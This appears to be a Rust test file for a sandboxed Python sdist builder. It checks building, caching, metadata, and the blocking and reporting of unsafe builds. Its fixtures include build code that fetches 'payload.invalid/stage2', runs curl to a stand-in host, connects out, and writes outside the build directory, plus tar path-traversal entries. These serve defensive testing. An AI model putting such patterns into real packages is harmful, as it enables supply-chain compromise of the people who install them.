//! Building sdists end to end with the machine's Python: in-tree backends,
//! build requirements, the cache, metadata preparation, the sandbox (network
//! and writes), and refusals of unsafe sdists.

mod common;

use std::net::TcpListener;
use std::time::{Duration, Instant};

use common::{install_and_run, python, write_sdist, InTree, LocalInstaller};
use pyward_build::{BuildError, Builder, SandboxPolicy, SandboxStatus, SourceError};
use pyward_guard::{Check, Evidence, Severity};
use pyward_testkit::wheel::{RawTarEntry, RawTarKind, WheelBuilder};

macro_rules! need_python {
    () => {
        match python() {
            Some(p) => p,
            None => {
                eprintln!("skipped: no python3 on this machine");
                return;
            }
        }
    };
}

struct Setup {
    dir: tempfile::TempDir,
    installer: LocalInstaller,
}

fn setup() -> Setup {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("wheels")).unwrap();
    let installer = LocalInstaller::new(&dir.path().join("wheels"), &dir.path().join("icache"));
    Setup { dir, installer }
}

impl Setup {
    fn cache(&self) -> std::path::PathBuf {
        self.dir.path().join("cache")
    }

    fn add_wheel(&self, wheel: &pyward_testkit::wheel::BuiltWheel) {
        wheel.write_to(&self.dir.path().join("wheels"));
    }
}

#[test]
fn in_tree_backend_builds_and_the_wheel_installs_and_imports() {
    let py = need_python!();
    let s = setup();
    let project = InTree::new("demo-pkg", "1.2.0");
    let sdist = write_sdist(s.dir.path(), &project.sdist());
    let builder = Builder::new(py.clone(), s.cache(), SandboxPolicy::Prefer);

    let built = builder.build_wheel(&sdist, &s.installer).unwrap();
    assert!(!built.from_cache);
    assert_eq!(
        built.filename.to_string(),
        "demo_pkg-1.2.0-py3-none-any.whl"
    );
    assert_eq!(built.metadata.name.as_ref(), "demo-pkg");
    assert_eq!(built.sandboxed, builder.sandbox_status());
    assert!(built
        .wheel_path
        .starts_with(s.cache().join("built-wheels-v1").join(&sdist.sha256)));
    // Nothing to install: the backend needs nothing.
    assert!(s.installer.calls().is_empty());
    if built.sandboxed == SandboxStatus::Full {
        assert!(built.findings.is_empty(), "{:?}", built.findings);
    }
    let out = install_and_run(
        &py,
        s.dir.path(),
        &built.wheel_path,
        &built.filename,
        "import demo_pkg; print(demo_pkg.VALUE)",
    );
    assert_eq!(out, "42");
}

#[test]
fn build_requirements_come_from_the_installer_in_two_rounds() {
    let py = need_python!();
    let s = setup();
    s.add_wheel(
        &WheelBuilder::new("helper-lib", "1.0")
            .file("helper_lib.py", "VALUE = 'from the build requirement'\n")
            .build(),
    );
    s.add_wheel(
        &WheelBuilder::new("helper-extra", "2.0")
            .file("helper_extra.py", "")
            .build(),
    );
    let mut project = InTree::new("uses-helper", "0.1");
    project.requires = vec!["helper-lib".into()];
    project.get_requires = vec!["helper-extra>=1".into()];
    // The backend may import its requirements: they are in its environment.
    project.build_code =
        "import helper_lib, helper_extra\nMODULE_SOURCE = 'VALUE = %r\\n' % helper_lib.VALUE"
            .into();
    let sdist = write_sdist(s.dir.path(), &project.sdist());
    let builder = Builder::new(py.clone(), s.cache(), SandboxPolicy::Prefer);

    let built = builder.build_wheel(&sdist, &s.installer).unwrap();
    assert_eq!(
        s.installer.calls(),
        vec![
            vec!["helper-lib".to_string()],
            vec!["helper-lib".to_string(), "helper-extra>=1".to_string()],
        ]
    );
    let out = install_and_run(
        &py,
        s.dir.path(),
        &built.wheel_path,
        &built.filename,
        "import uses_helper; print(uses_helper.VALUE)",
    );
    assert_eq!(out, "from the build requirement");
}

#[test]
fn a_second_build_of_the_same_sdist_reuses_the_cached_wheel() {
    let py = need_python!();
    let s = setup();
    s.add_wheel(
        &WheelBuilder::new("helper-lib", "1.0")
            .file("helper_lib.py", "")
            .build(),
    );
    let mut project = InTree::new("cached-pkg", "3.0");
    project.requires = vec!["helper-lib".into()];
    let sdist = write_sdist(s.dir.path(), &project.sdist());
    let builder = Builder::new(py.clone(), s.cache(), SandboxPolicy::Prefer);
    let first = builder.build_wheel(&sdist, &s.installer).unwrap();
    assert_eq!(s.installer.calls().len(), 1);

    // A new builder (a later pyward run), and the sdist itself is gone.
    std::fs::remove_file(&sdist.path).unwrap();
    let later = Builder::new(py, s.cache(), SandboxPolicy::Prefer);
    let started = Instant::now();
    let second = later.build_wheel(&sdist, &s.installer).unwrap();
    let took = started.elapsed();
    assert!(second.from_cache);
    assert_eq!(second.wheel_path, first.wheel_path);
    assert_eq!(second.metadata, first.metadata);
    assert_eq!(second.sandboxed, first.sandboxed);
    assert_eq!(s.installer.calls().len(), 1, "nothing was installed again");
    assert!(took < Duration::from_millis(500), "took {took:?}");
    assert!(later.cached(&sdist.sha256).is_some());
}

#[test]
fn metadata_is_prepared_without_a_build_and_the_tree_is_reused() {
    let py = need_python!();
    let s = setup();
    s.add_wheel(
        &WheelBuilder::new("helper-lib", "1.0")
            .file("helper_lib.py", "")
            .build(),
    );
    let mut project = InTree::new("meta-pkg", "1.0");
    project.prepare = true;
    project.requires = vec!["helper-lib".into()];
    project.requires_dist = vec!["requests>=2".into(), "idna; extra == 'x'".into()];
    let sdist = write_sdist(s.dir.path(), &project.sdist());
    let builder = Builder::new(py.clone(), s.cache(), SandboxPolicy::Prefer);

    let prepared = builder.prepare_metadata(&sdist, &s.installer).unwrap();
    assert!(!prepared.from_cache);
    assert!(prepared.built_wheel.is_none(), "no wheel was built");
    let reqs: Vec<String> = prepared
        .metadata
        .requires_dist
        .iter()
        .map(|r| r.to_string())
        .collect();
    assert_eq!(reqs[0], "requests>=2");
    assert_eq!(reqs.len(), 2);
    assert!(builder.cached(&sdist.sha256).is_none());

    let built = builder.build_wheel(&sdist, &s.installer).unwrap();
    assert_eq!(
        built.metadata.requires_dist,
        prepared.metadata.requires_dist
    );
    assert_eq!(s.installer.calls().len(), 1, "the prepared tree was reused");

    let again = Builder::new(py, s.cache(), SandboxPolicy::Prefer)
        .prepare_metadata(&sdist, &s.installer)
        .unwrap();
    assert!(again.from_cache);
    assert_eq!(
        again.built_wheel.as_deref(),
        Some(built.wheel_path.as_path())
    );
}

#[test]
fn without_a_prepare_hook_metadata_comes_from_a_full_build() {
    let py = need_python!();
    let s = setup();
    let mut project = InTree::new("no-prepare", "2.0");
    project.requires_dist = vec!["six".into()];
    let sdist = write_sdist(s.dir.path(), &project.sdist());
    let builder = Builder::new(py, s.cache(), SandboxPolicy::Prefer);
    let prepared = builder.prepare_metadata(&sdist, &s.installer).unwrap();
    assert_eq!(prepared.metadata.requires_dist[0].name.as_ref(), "six");
    let wheel = prepared.built_wheel.expect("a full build");
    assert!(wheel.is_file());
    assert!(
        builder
            .build_wheel(&sdist, &s.installer)
            .unwrap()
            .from_cache
    );
}

/// A listener on the host's loopback that the build will try to reach.
fn listener() -> (TcpListener, u16) {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    l.set_nonblocking(true).unwrap();
    let port = l.local_addr().unwrap().port();
    (l, port)
}

fn sandbox_blocks_network(builder: &Builder) -> bool {
    let status = builder.sandbox_status();
    if !status.blocks_network() {
        eprintln!("skipped: this machine cannot block the network of builds ({status})");
    }
    status.blocks_network()
}

#[test]
fn a_build_that_connects_out_is_blocked_and_reported() {
    let py = need_python!();
    let s = setup();
    let builder = Builder::new(py, s.cache(), SandboxPolicy::Require);
    if !sandbox_blocks_network(&builder) {
        return;
    }
    let (listener, port) = listener();
    let mut project = InTree::new("phones-home", "0.3");
    project.build_code = format!(
        "import socket\ntry:\n    socket.create_connection(('127.0.0.1', {port}), timeout=5)\nexcept OSError as e:\n    print('connect failed:', e)"
    );
    let sdist = write_sdist(s.dir.path(), &project.sdist());
    let built = builder.build_wheel(&sdist, &s.installer).unwrap();

    assert!(
        listener.accept().is_err(),
        "the connection reached the host"
    );
    let f = built
        .findings
        .iter()
        .find(|f| f.check == Check::Scan && f.severity == Severity::High)
        .expect("a network finding");
    assert_eq!(f.package.name, "phones-home");
    assert_eq!(
        f.title,
        format!("_build/backend.py of phones-home 0.3 tried to connect to 127.0.0.1:{port} during the build; the sandbox blocked it")
    );
    assert!(f.evidence.iter().any(|e| matches!(e, Evidence::Location { file, line, .. } if file == "_build/backend.py" && *line > 20)));
    // The cached wheel still carries what its build did.
    let again = builder.build_wheel(&sdist, &s.installer).unwrap();
    assert!(again.from_cache);
    assert_eq!(again.findings, built.findings);

    // Without the sandbox the same build does reach the listener, and says so.
    let unsandboxed = Builder::new(
        python().unwrap(),
        s.dir.path().join("cache-off"),
        SandboxPolicy::Off,
    )
    .build_wheel(&sdist, &s.installer)
    .unwrap();
    assert!(
        listener.accept().is_ok(),
        "without the sandbox the build connects"
    );
    assert!(
        unsandboxed.findings[0]
            .title
            .ends_with("nothing blocked it, because the build ran without a network sandbox"),
        "{}",
        unsandboxed.findings[0].title
    );
}

#[test]
fn a_failing_build_reports_its_output_and_network_attempts() {
    let py = need_python!();
    let s = setup();
    let builder = Builder::new(py, s.cache(), SandboxPolicy::Require);
    if !sandbox_blocks_network(&builder) {
        return;
    }
    let mut project = InTree::new("needs-net", "1.0");
    project.build_code =
        "import urllib.request\nurllib.request.urlopen('http://payload.invalid/stage2', timeout=5)"
            .into();
    let sdist = write_sdist(s.dir.path(), &project.sdist());
    let err = builder.build_wheel(&sdist, &s.installer).unwrap_err();
    let BuildError::HookFailed {
        hook,
        output_tail,
        log,
        ..
    } = &err
    else {
        panic!("{err}");
    };
    assert_eq!(hook, "build_wheel");
    assert!(output_tail.contains("URLError"), "{output_tail}");
    assert!(log.as_ref().is_some_and(|l| l.is_file()));
    assert!(err.to_string().contains("needs-net 1.0"));
    let f = &err.findings()[0];
    assert!(
        f.title
            .contains("tried to fetch http://payload.invalid/stage2"),
        "{}",
        f.title
    );
    assert!(builder.cached(&sdist.sha256).is_none());
}

#[test]
fn writes_outside_the_build_directory_are_refused() {
    let py = need_python!();
    let s = setup();
    let builder = Builder::new(py, s.cache(), SandboxPolicy::Require);
    if builder.sandbox_status() != SandboxStatus::Full {
        eprintln!(
            "skipped: writes are not confined here ({})",
            builder.sandbox_status()
        );
        return;
    }
    let outside = tempfile::tempdir().unwrap();
    let target = outside.path().join("planted.txt");
    let mut project = InTree::new("plants-files", "1.0");
    project.build_code = format!(
        "import os\ntry:\n    open({target:?}, 'w').write('x')\nexcept OSError as e:\n    print('write refused:', e)\nos.makedirs(os.path.expanduser('~/.config'), exist_ok=True)",
        target = target.display().to_string()
    );
    let sdist = write_sdist(s.dir.path(), &project.sdist());
    builder.build_wheel(&sdist, &s.installer).unwrap();
    assert!(!target.exists(), "the build wrote outside its directory");
}

#[test]
fn an_sdist_with_a_path_traversal_member_is_refused_before_anything_runs() {
    let py = need_python!();
    let s = setup();
    let builder = Builder::new(py, s.cache(), SandboxPolicy::Prefer);
    for entry in [
        RawTarEntry::file("../escaped.txt", "x"),
        RawTarEntry::file("/tmp/pyward-absolute-escape.txt", "x"),
        RawTarEntry::new("evil-1.0/link", RawTarKind::Symlink("../../..".into())),
    ] {
        let mut project = InTree::new("evil", "1.0");
        project.requires = vec!["helper-lib".into()];
        let sdist = write_sdist(
            s.dir.path(),
            &project.sdist_builder().raw_entry(entry.clone()).build(),
        );
        let err = builder.build_wheel(&sdist, &s.installer).unwrap_err();
        assert!(
            matches!(err, BuildError::Extract { .. }),
            "{}: {err}",
            entry.path
        );
        assert!(err.to_string().contains("evil 1.0"));
    }
    assert!(s.installer.calls().is_empty(), "nothing was installed");
    assert!(!s.cache().join("builds").join("escaped.txt").exists());
    assert!(!std::path::Path::new("/tmp/pyward-absolute-escape.txt").exists());
}

#[test]
fn a_backend_path_outside_the_tree_is_refused() {
    let py = need_python!();
    let s = setup();
    let builder = Builder::new(py, s.cache(), SandboxPolicy::Prefer);
    let mut project = InTree::new("escapes", "1.0");
    project.extra_build_system = String::new();
    let pyproject =
        "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"..\"]\n";
    let built = pyward_testkit::wheel::SdistBuilder::new("escapes", "1.0")
        .file("pyproject.toml", pyproject)
        .file("_build/backend.py", project.backend())
        .build();
    let sdist = write_sdist(s.dir.path(), &built);
    let err = builder.build_wheel(&sdist, &s.installer).unwrap_err();
    assert!(
        matches!(&err, BuildError::Source { source: SourceError::BackendPath { entry, .. }, .. } if entry == ".."),
        "{err}"
    );
}

#[test]
fn a_wheel_that_is_not_the_sdists_project_is_refused() {
    let py = need_python!();
    let s = setup();
    let builder = Builder::new(py, s.cache(), SandboxPolicy::Prefer);
    let mut project = InTree::new("honest-name", "1.0");
    project.wheel_name = Some("requests".into());
    let sdist = write_sdist(s.dir.path(), &project.sdist());
    let err = builder.build_wheel(&sdist, &s.installer).unwrap_err();
    assert!(matches!(err, BuildError::WrongOutput { .. }), "{err}");
    assert!(err.to_string().contains("requests"), "{err}");
    assert!(builder.cached(&sdist.sha256).is_none());
}

#[test]
fn a_missing_backend_is_named() {
    let py = need_python!();
    let s = setup();
    let builder = Builder::new(py, s.cache(), SandboxPolicy::Prefer);
    let built = pyward_testkit::wheel::SdistBuilder::new("no-backend", "1.0")
        .file(
            "pyproject.toml",
            "[build-system]\nrequires = []\nbuild-backend = \"not_installed_backend.api\"\n",
        )
        .build();
    let sdist = write_sdist(s.dir.path(), &built);
    let err = builder.build_wheel(&sdist, &s.installer).unwrap_err();
    let BuildError::BackendUnavailable {
        backend, message, ..
    } = &err
    else {
        panic!("{err}");
    };
    assert_eq!(backend, "not_installed_backend.api");
    assert!(message.contains("ModuleNotFoundError"), "{message}");
}

#[test]
fn a_hanging_build_is_stopped() {
    let py = need_python!();
    let s = setup();
    let builder =
        Builder::new(py, s.cache(), SandboxPolicy::Prefer).with_timeout(Duration::from_secs(2));
    let mut project = InTree::new("hangs", "1.0");
    project.build_code = "import time\ntime.sleep(60)".into();
    let sdist = write_sdist(s.dir.path(), &project.sdist());
    let started = Instant::now();
    let err = builder.build_wheel(&sdist, &s.installer).unwrap_err();
    assert!(matches!(err, BuildError::TimedOut { .. }), "{err}");
    assert!(started.elapsed() < Duration::from_secs(30));
}

#[test]
fn sandbox_off_is_reported_as_off() {
    let py = need_python!();
    let s = setup();
    let builder = Builder::new(py, s.cache(), SandboxPolicy::Off);
    assert_eq!(builder.sandbox_status(), SandboxStatus::Off);
    let sdist = write_sdist(s.dir.path(), &InTree::new("plain", "1.0").sdist());
    let built = builder.build_wheel(&sdist, &s.installer).unwrap();
    assert_eq!(built.sandboxed, SandboxStatus::Off);
    assert!(built.findings.is_empty());
}

#[test]
fn network_tools_started_by_the_build_are_reported_but_local_git_is_not() {
    let py = need_python!();
    let s = setup();
    let builder = Builder::new(py, s.cache(), SandboxPolicy::Require);
    if !sandbox_blocks_network(&builder) {
        return;
    }
    let mut project = InTree::new("runs-tools", "1.0");
    project.build_code = "import subprocess\nfor cmd in (['git', 'check-ignore', '.'], ['curl', '-s', 'https://payload.invalid/x']):\n    try:\n        subprocess.run(cmd, capture_output=True, timeout=10)\n    except OSError:\n        pass".into();
    let sdist = write_sdist(s.dir.path(), &project.sdist());
    let built = builder.build_wheel(&sdist, &s.installer).unwrap();
    assert_eq!(built.findings.len(), 1, "{:?}", built.findings);
    assert_eq!(
        built.findings[0].title,
        "_build/backend.py of runs-tools 1.0 tried to run `curl -s https://payload.invalid/x` during the build; the sandbox blocked it"
    );
}
